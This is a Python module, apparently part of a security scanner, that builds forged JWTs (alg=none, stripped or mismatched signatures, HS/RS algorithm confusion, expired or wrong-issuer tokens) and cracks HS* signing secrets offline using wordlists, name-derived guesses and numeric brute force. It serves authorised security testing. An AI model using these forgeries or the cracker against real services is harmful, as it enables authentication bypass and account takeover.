"""Forged and tampered JWTs, and an offline dictionary test of HS* signing secrets.

Written on :mod:`hmac`/:mod:`base64` instead of PyJWT on purpose: PyJWT refuses to produce the
tokens an attacker sends (``alg=none`` with odd casing, a header that lies about its algorithm,
an HMAC keyed with an RSA public key in PEM form) — which is exactly what this engine must build.
PyJWT is used only to mint *legitimate* tokens with a staging signing key the user hands us.

Nothing here sends a request: checks take the :class:`Variant` tokens and probe with them.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import re
import secrets
import time
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from importlib import resources
from typing import Any

_HMAC = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def b64url_encode(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode("ascii")


def b64url_decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _segment(obj: Mapping[str, Any]) -> str:
    return b64url_encode(json.dumps(obj, separators=(",", ":")).encode())


@dataclass(frozen=True)
class ParsedJwt:
    """A compact JWS split into its parts (not verified)."""

    header: Mapping[str, Any]
    claims: Mapping[str, Any]
    signing_input: bytes
    signature: bytes
    raw: str

    @property
    def alg(self) -> str:
        return str(self.header.get("alg", ""))

    @property
    def is_hmac(self) -> bool:
        return self.alg.upper() in _HMAC


def parse(token: str) -> ParsedJwt | None:
    """``None`` unless ``token`` is a three-part JWS whose header and payload are JSON objects."""
    parts = token.strip().split(".")
    if len(parts) != 3:
        return None
    try:
        header = json.loads(b64url_decode(parts[0]))
        claims = json.loads(b64url_decode(parts[1]))
        signature = b64url_decode(parts[2])
    except (ValueError, UnicodeDecodeError):
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict) or "alg" not in header:
        return None
    return ParsedJwt(header, claims, f"{parts[0]}.{parts[1]}".encode("ascii"), signature, token.strip())


def serialise(header: Mapping[str, Any], claims: Mapping[str, Any], signature: bytes = b"") -> str:
    return f"{_segment(header)}.{_segment(claims)}.{b64url_encode(signature)}"


def hmac_sign(header: Mapping[str, Any], claims: Mapping[str, Any], key: bytes, alg: str = "HS256") -> str:
    """A token signed with ``key`` under ``alg`` (HS256/384/512), whatever the key looks like."""
    digest = _HMAC[alg.upper()]
    head = {**header, "alg": alg.upper()}
    signing_input = f"{_segment(head)}.{_segment(claims)}".encode("ascii")
    return f"{signing_input.decode()}.{b64url_encode(hmac.new(key, signing_input, digest).digest())}"


def mint(claims: Mapping[str, Any], key: str, alg: str) -> str:
    """A legitimately signed token (the staging key: HMAC secret or PEM private key)."""
    import warnings

    import jwt

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # a short staging or recovered key is the finding, not noise
        return jwt.encode(dict(claims), key, algorithm=alg)


def unusable_key(key: str, alg: str) -> str:
    """Why ``key`` cannot sign ``alg`` tokens (an HMAC secret given for an RS256 token, a malformed PEM), or
    ``""`` when it can: a key the scan was handed is tried once before any token is built with it."""
    import jwt

    try:
        mint({"sub": "launchready-key-check"}, key, alg)
    except (jwt.exceptions.PyJWTError, ValueError, TypeError) as exc:
        return f"{type(exc).__name__}: {str(exc)[:120]}"
    return ""


@dataclass(frozen=True)
class Variant:
    """One tampered token and what accepting it would prove."""

    name: str
    token: str
    proves: str
    family: str
    """Groups variants into separate findings: signature, alg-none, expiry, issuer, confusion."""


def none_variants(jwt_: ParsedJwt) -> Iterator[Variant]:
    for alg in ("none", "None", "NONE"):
        header = {**jwt_.header, "alg": alg}
        yield Variant(f"alg-{alg}", serialise(header, jwt_.claims), f"an unsigned token (alg={alg!r}) is accepted",
                      "alg-none")


def signature_variants(
    jwt_: ParsedJwt, flips: Mapping[str, Any]
) -> Iterator[Variant]:
    """Tokens whose signature no longer matches: whoever accepts one does not verify signatures."""
    stripped = jwt_.raw.rsplit(".", 1)[0] + "."
    yield Variant("stripped-signature", stripped, "a token with its signature removed is accepted", "signature")
    yield Variant("wrong-key", hmac_sign(jwt_.header, jwt_.claims, secrets.token_bytes(32), "HS256"),
                  "a token signed with a random key is accepted", "signature")
    encoded_sig = jwt_.raw.rsplit(".", 1)[1]
    for claim, value in flips.items():
        claims = {**jwt_.claims, claim: value}
        head = jwt_.raw.split(".", 1)[0]
        token = f"{head}.{_segment(claims)}.{encoded_sig}"
        yield Variant(f"flipped-{claim}", token,
                      f"a token whose `{claim}` was changed under the old signature is accepted", "signature")


def confusion_variants(jwt_: ParsedJwt, public_pems: Iterable[bytes]) -> Iterator[Variant]:
    """HS256 tokens keyed with the server's own public key (RS/ES → HS algorithm confusion)."""
    seen: set[bytes] = set()
    for pem in public_pems:
        for key in (pem, pem.strip(), pem.strip() + b"\n"):
            if key in seen:
                continue
            seen.add(key)
            yield Variant(f"hs-rs-confusion-{len(seen)}", hmac_sign(jwt_.header, jwt_.claims, key, "HS256"),
                          "an HS256 token keyed with the published public key is accepted", "confusion")


def signed_variants(jwt_: ParsedJwt, key: str, *, now: float | None = None) -> Iterator[Variant]:
    """Validly signed tokens that must still be refused: expired, wrong issuer, wrong audience."""
    at = int(now if now is not None else time.time())
    alg = jwt_.alg if jwt_.alg.upper() != "NONE" else "HS256"
    expired = {**jwt_.claims, "iat": at - 7200, "nbf": at - 7200, "exp": at - 3600}
    if "nbf" not in jwt_.claims:
        expired.pop("nbf")
    yield Variant("expired-signed", mint(expired, key, alg), "a validly signed token that expired an hour ago is "
                  "accepted", "expiry")
    fresh = {**jwt_.claims}
    if "exp" in fresh:
        fresh["exp"] = at + 600
    if "iss" in jwt_.claims:
        yield Variant("wrong-iss", mint({**fresh, "iss": "https://issuer.launchready.invalid"}, key, alg),
                      "a validly signed token from another issuer is accepted", "issuer")
    if "aud" in jwt_.claims:
        yield Variant("wrong-aud", mint({**fresh, "aud": "launchready-other-audience"}, key, alg),
                      "a validly signed token for another audience is accepted", "issuer")


# -- offline dictionary test ------------------------------------------------------------------------

def ranked_secrets() -> list[tuple[str, str]]:
    """The shipped list as ``(secret, kind)`` in rank order; a ``#@ <kind>`` line names the kind of what follows."""
    text = resources.files("launchready.data").joinpath("jwt-secrets.txt").read_text(encoding="utf-8")
    kind = "a common secret"
    out: list[tuple[str, str]] = []
    for line in text.splitlines():
        if line.startswith("#@ "):
            kind = line[3:].strip()
        elif line.strip() and not line.startswith("#"):
            out.append((line.rstrip("\r\n"), kind))
    return out


def wordlist() -> list[str]:
    """The shipped list of guessable secrets (one a line, ``#`` comments), in rank order."""
    return [word for word, _ in ranked_secrets()]


_GENERIC_LABELS = frozenset({"www", "api", "app", "apps", "staging", "stage", "dev", "test", "prod", "beta", "local",
                             "localhost", "localdomain", "internal", "com", "net", "org", "io", "ai", "co", "cloud",
                             "example", "invalid"})


def _name_parts(name: str) -> list[str]:
    """A product name as is, or a host's meaningful labels (``api.acme-assist.io`` → ``acme-assist``);
    an IP address gives nothing."""
    host = name.strip().lower()
    if re.fullmatch(r"[\d.]+|\[?[0-9a-f:]+\]?", host):
        return []
    if "." in host and " " not in host:
        return [label for label in host.split(".") if label and label not in _GENERIC_LABELS]
    return [name]


def app_words(names: Iterable[str]) -> list[str]:
    """``<appname>-secret``-style guesses from the product's names ("Acme Assist" → acme-assist-secret…)."""
    out: list[str] = []
    for raw in names:
        for name in _name_parts(raw):
            words = [w for w in re.split(r"[^A-Za-z0-9]+", name.lower()) if w]
            if not words:
                continue
            stems = {"-".join(words), "_".join(words), "".join(words), words[0]}
            if re.fullmatch(r"[A-Za-z0-9_-]+", name.strip()):
                stems.add(name.strip())  # the name as written: "VAmPI"
            for stem in sorted(stems):
                for pattern in ("{s}", "{s}-secret", "{s}_secret", "{s}secret", "{s}-jwt-secret", "{s}_jwt_secret",
                                "{s}-key", "{s}_key", "{s}-secret-key", "{s}_secret_key", "{s}123", "{s}-dev",
                                "{s}-jwt", "{s}_jwt", "{s}2024", "{s}2025", "{s}2026", "{s}key", "{s}jwt",
                                "{s}-token", "{s}!", "{s}1"):
                    for form in (stem, stem.upper(), stem.capitalize()):
                        out.append(pattern.format(s=form))
    return list(dict.fromkeys(out))


_SUFFIXES = ("1", "123", "1234", "!", "2024", "2025", "2026", "-secret", "_secret", "-key", "_key", "-jwt", "_jwt")
_MUTATED_KINDS = ("a common word or default", "a dictionary word")


def candidates(names: Iterable[str] = ()) -> list[tuple[str, str]]:
    """Every offline guess, ranked: the shipped list, then guesses from the product's names and host, then
    common and dictionary words with the usual capitalisation and suffixes. ``(secret, kind)`` pairs."""
    shipped = ranked_secrets()
    out: dict[str, str] = dict(shipped)
    for word in app_words(names):
        out.setdefault(word, "derived from the product's name or host")
    for word, kind in shipped:
        if kind not in _MUTATED_KINDS:
            continue
        for form in (word.capitalize(), word.upper()):
            out.setdefault(form, f"{kind} with capitals")
        for suffix in _SUFFIXES:
            for form in (word, word.capitalize()):
                out.setdefault(form + suffix, f"{kind} with a common suffix")
    return list(out.items())


def numeric_secrets(max_digits: int) -> Iterator[str]:
    """Every all-digit secret up to ``max_digits`` long ("0"…"9999"; "0042" too): PIN-like secrets that
    products generate "randomly" with too few digits. 10 000 at 4 digits, 1.1 million at 6 (seconds)."""
    for digits in range(1, max_digits + 1):
        for n in range(10**digits):
            yield f"{n:0{digits}d}"


def crack(jwt_: ParsedJwt, candidates: Iterable[str]) -> tuple[int, str] | None:
    """The (1-based position, secret) among ``candidates`` that signed an HS* token; zero requests."""
    digest = _HMAC.get(jwt_.alg.upper())
    if digest is None:
        return None
    name = digest().name
    for position, word in enumerate(candidates, 1):
        if hmac.compare_digest(hmac.digest(word.encode("utf-8"), jwt_.signing_input, name), jwt_.signature):
            return position, word
    return None


def jwk_public_pems(jwks: Any) -> list[bytes]:
    """PEM public keys (SubjectPublicKeyInfo) from a JWKS document; unreadable keys are left out."""
    from cryptography.hazmat.primitives import serialization
    from jwt.algorithms import ECAlgorithm, RSAAlgorithm

    keys = jwks.get("keys") if isinstance(jwks, dict) else None
    pems: list[bytes] = []
    for jwk in keys if isinstance(keys, list) else []:
        if not isinstance(jwk, dict):
            continue
        kty = str(jwk.get("kty"))
        if kty not in ("RSA", "EC"):
            continue
        try:
            key: Any = (RSAAlgorithm if kty == "RSA" else ECAlgorithm).from_jwk(json.dumps(jwk))
            public = key.public_key() if hasattr(key, "private_bytes") else key
            pems.append(public.public_bytes(serialization.Encoding.PEM,
                                            serialization.PublicFormat.SubjectPublicKeyInfo))
        except (ValueError, TypeError, KeyError):
            continue
    return pems
